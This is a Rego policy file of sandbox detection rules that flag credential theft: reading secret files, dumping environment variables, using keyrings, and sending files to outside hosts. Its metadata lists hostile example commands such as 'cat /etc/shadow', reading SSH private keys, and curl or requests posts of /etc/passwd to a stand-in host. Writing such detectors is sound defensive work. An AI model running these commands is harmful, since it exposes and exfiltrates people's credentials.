# METADATA
# scope: package
# title: Rules about credentials
package caisson.rules.credentials

# METADATA
# title: Reads credentials
# custom:
#   id: SBX-CRED-0001
#   severity: high
#   category: credentials
#   cwe: ["CWE-200", "CWE-522"]
#   attack: ["T1552.001", "T1003.008"]
#   remediation: "Pass what the program needs as an argument."
#   match:
#     - {"language": "bash", "code": "cat /etc/shadow"}
#     - {"language": "python", "code": "open('/root/.ssh/id_rsa').read()"}
#     - {"language": "javascript", "code": "require('fs').readFileSync('/proc/self/environ')"}
#     - {"language": "bash", "code": "find ~ -name '*.pem' -exec cp {} /tmp/x \\;"}
#   not_match:
#     - {"language": "bash", "code": "cat notes.txt"}
#     - {"language": "bash", "code": "find . -name '*.pem'"}
#     - {"language": "bash", "code": "find ~ -name '*.log'"}
findings contains {"id": "SBX-CRED-0001", "at": f.at, "msg": sprintf("%s is read by %s", [f.path, f.by])} if {
	some op in {"read", "copy_src", "move_src", "list", "link", "exec"}
	used := input.files[op]
	some class in data.settings.secret_classes
	some f in used[class]
}

# Files whose names say that they hold secrets are looked for in places of people
# or of the system.
findings contains {"id": "SBX-CRED-0001", "at": c.at, "msg": sprintf("%s is looked for in %s", [name, place])} if {
	some c in input.commands.find
	some i, flag in c.argv
	flag in {"-name", "-iname", "-path", "-ipath", "-wholename", "-regex", "-iregex"}
	name := c.argv[i + 1]
	regex.match(`(?i)\.(pem|key|kdbx|p12|pfx|ovpn|keystore|jks|ppk|asc)$|\.env\b|id_(rsa|dsa|ecdsa|ed25519)|wallet|credential|passw|secret|token`, name)
	place := first_kept(c.operands)
}

# first_kept is the first place of those where people keep what is secret.
first_kept(places) := [place | some place in places; regex.match(`^(~|/$|/(home|root|etc|var|Users|srv|mnt|media)(/|$))`, place)][0]

# METADATA
# title: Reads who the users are, or what they did
# custom:
#   id: SBX-CRED-0002
#   severity: high
#   category: credentials
#   cwe: ["CWE-200"]
#   attack: ["T1087.001", "T1552.003"]
#   remediation: "Pass what the program needs as an argument."
#   match:
#     - {"language": "bash", "code": "cat /etc/passwd"}
#     - {"language": "python", "code": "open('/etc/passwd').read()"}
#     - {"language": "bash", "code": "cut -d: -f1 /e*/passwd"}
#   not_match:
#     - {"language": "bash", "code": "cat passwords_test.txt"}
#     - {"language": "bash", "code": "echo /etc/passwd"}
findings contains {"id": "SBX-CRED-0002", "at": f.at, "msg": sprintf("%s is read by %s", [f.path, f.by])} if {
	some op in {"read", "copy_src", "move_src", "link"}
	used := input.files[op]
	some class in data.settings.identity_classes
	some f in used[class]
}

# METADATA
# title: Sends a file or a secret away
# custom:
#   id: SBX-CRED-0003
#   severity: critical
#   category: network
#   cwe: ["CWE-200"]
#   attack: ["T1041", "T1048"]
#   remediation: "Write results to the workspace."
#   match:
#     - {"language": "bash", "code": "curl -d @/etc/passwd http://x.test/"}
#     - {"language": "python", "code": "import requests\nrequests.post('http://x.test', data=open('/etc/passwd').read())"}
#   not_match:
#     - {"language": "bash", "code": "curl http://x.test/"}
findings contains {"id": "SBX-CRED-0003", "at": n.at, "msg": sprintf("%s goes to %s", [from, n.host])} if {
	some class
	some op in {"upload", "request", "connect", "send_udp"}
	some n in input.net[class][op]
	class != "allowed"
	some from in n.carries
	secret_origin(from)
}

secret_origin(from) if from in {"credentials", "screen", "keys", "clipboard", "camera", "microphone", "env_copy"}

secret_origin(from) if startswith(from, "file:/etc/")

secret_origin(from) if startswith(from, "file:/root/")

secret_origin(from) if startswith(from, "file:/home/")

secret_origin(from) if startswith(from, "file:/proc/")

# METADATA
# title: Dumps the whole environment
# custom:
#   id: SBX-CRED-0004
#   severity: high
#   category: credentials
#   cwe: ["CWE-526"]
#   attack: ["T1552.007"]
#   remediation: "Read the variables that are needed, by name."
#   match:
#     - {"language": "bash", "code": "printenv"}
#     - {"language": "python", "code": "import os\nprint(os.environ)"}
#     - {"language": "python", "code": "import json, os\nprint(json.dumps(dict(os.environ)))"}
#     - {"language": "python", "code": "import os\nfor k, v in os.environ.items():\n    print(k, v)"}
#     - {"language": "python", "code": "import os\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\nprint(d)"}
#     - {"language": "javascript", "code": "for (const [k, v] of Object.entries(process.env)) console.log(k, v)"}
#     - {"language": "bash", "code": "env | grep -i password"}
#     - {"language": "bash", "code": "env | grep -v x"}
#   not_match:
#     - {"language": "python", "code": "import os\nos.environ.get('HOME')"}
#     - {"language": "python", "code": "import os\ndef own(k):\n    return k.startswith('APP_')\nd = {}\nfor k, v in os.environ.items():\n    if own(k):\n        v = v.lower()\n    d[k] = v"}
#     - {"language": "bash", "code": "env A=1 ls"}
findings contains {"id": "SBX-CRED-0004", "at": e.at, "msg": "all environment variables are read"} if {
	some class
	some e in input.env.dump[class]
	not e.idle
	not sought(e)
}

# sought: of what is printed, grep keeps what is named, and no secret is.
sought(e) if {
	some filter in filters
	[filter, e.spot] in printed_to
	[filter, e.line] in seeking
	not [filter, e.line] in keeping
}

filters := {"grep", "egrep"}

printed_to contains [filter, c.spot] if {
	some printer in {"env", "printenv", "export", "set"}
	some c in input.commands[printer]
	some filter in filters
	filter in c.pipe_to
}

seeking contains [filter, g.line] if {
	some filter in filters
	some g in input.commands[filter]
	seeks_one(g)
}

# keeping: there, one keeps more.
keeping contains [filter, g.line] if {
	some filter in filters
	some g in input.commands[filter]
	not seeks_one(g)
}

seeks_one(g) if {
	words := [w | some w in g.operands]
	count(words) == 1
	regex.match(`^\^?[A-Za-z_]{2,}[A-Za-z0-9_]*=?\$?$`, words[0])
	not regex.match(`(?i)(pass|secret|key|token|cred|auth|pwd)`, words[0])
	not "v" in g.flags
}

# METADATA
# title: Goes through the environment, or offers to read secrets
# custom:
#   id: SBX-CRED-0008
#   severity: medium
#   category: credentials
#   cwe: ["CWE-526"]
#   attack: ["T1552.007"]
#   remediation: "Read the variables that are needed, by name."
#   match:
#     - {"language": "python", "code": "import os\nprint({k: v for k, v in os.environ.items() if k.startswith('APP_')})"}
#     - {"language": "python", "code": "import os\nd = {}\nfor k, v in os.environ.items():\n    if k[-6:] == '_proxy':\n        d[k.lower()] = v"}
#     - {"language": "python", "code": "import os\ndef f():\n    return dict(os.environ.items())"}
#     - {"language": "python", "code": "import keyring\ndef f(a, b):\n    return keyring.get_password(a, b)"}
#     - {"language": "javascript", "code": "for (const k of Object.keys(process.env)) if (k.startsWith('APP_')) console.log(k)"}
#     - {"language": "bash", "code": "env | grep ^CI_"}
#   not_match:
#     - {"language": "python", "code": "import os\nos.environ.get('HOME')"}
findings contains {"id": "SBX-CRED-0008", "at": e.at, "msg": "the environment is searched"} if {
	some class
	some e in input.env.filter[class]
}

findings contains {"id": "SBX-CRED-0008", "at": e.at, "msg": "the environment is searched"} if {
	some class
	some e in input.env.dump[class]
	sought(e)
}

findings contains {"id": "SBX-CRED-0008", "at": a.at, "msg": sprintf("a store of credentials would be used by a function that nothing calls: %s", [a.by])} if {
	some a in input.actions.credentials
	a.idle
}

findings contains {"id": "SBX-CRED-0008", "at": e.at, "msg": "all environment variables would be read by a function that nothing calls"} if {
	some class
	some e in input.env.dump[class]
	e.idle
}

# METADATA
# title: Reads a secret from the environment
# custom:
#   id: SBX-CRED-0005
#   severity: low
#   category: credentials
#   cwe: ["CWE-526"]
#   attack: ["T1552.007"]
#   remediation: "A sandbox has no secrets of its host; pass a token of its own."
#   match:
#     - {"language": "python", "code": "import os\nos.environ['AWS_SECRET_ACCESS_KEY']"}
#   not_match:
#     - {"language": "python", "code": "import os\nos.environ['HOME']"}
findings contains {"id": "SBX-CRED-0005", "at": e.at, "msg": sprintf("the variable %s is read", [e.name])} if {
	some e in input.env.read.secret
}

# METADATA
# title: Uses a store of credentials
# custom:
#   id: SBX-CRED-0006
#   severity: high
#   category: credentials
#   cwe: ["CWE-522"]
#   attack: ["T1555"]
#   remediation: "Pass what the program needs as an argument."
#   match:
#     - {"language": "bash", "code": "secret-tool search a b"}
#     - {"language": "python", "code": "import keyring\nkeyring.get_password('a','b')"}
#     - {"language": "bash", "code": "pass show mail"}
#     - {"language": "bash", "code": "pass mail"}
#     - {"language": "python", "code": "import subprocess, sys\nsubprocess.run(['pass', sys.argv[1], 'mail'])"}
#   not_match:
#     - {"language": "bash", "code": "pass insert -m mail < new"}
#     - {"language": "python", "code": "import subprocess\nsubprocess.run(['pass', 'insert', '--multiline', 'a/b'], input=b'x')"}
#     - {"language": "bash", "code": "ls"}
findings contains {"id": "SBX-CRED-0006", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
	some op in ["credentials"]
	some a in input.actions[op]
	not a.idle
}

# METADATA
# title: Holds a key or a token in its text
# custom:
#   id: SBX-CRED-0007
#   severity: medium
#   category: credentials
#   cwe: ["CWE-798"]
#   attack: ["T1552.001"]
#   remediation: "Pass secrets as arguments."
findings contains {"id": "SBX-CRED-0007", "at": s.at, "msg": sprintf("a %s stands in the text", [s.kind])} if {
	some kind in {"private_key", "token"}
	some s in input.strings[kind]
}
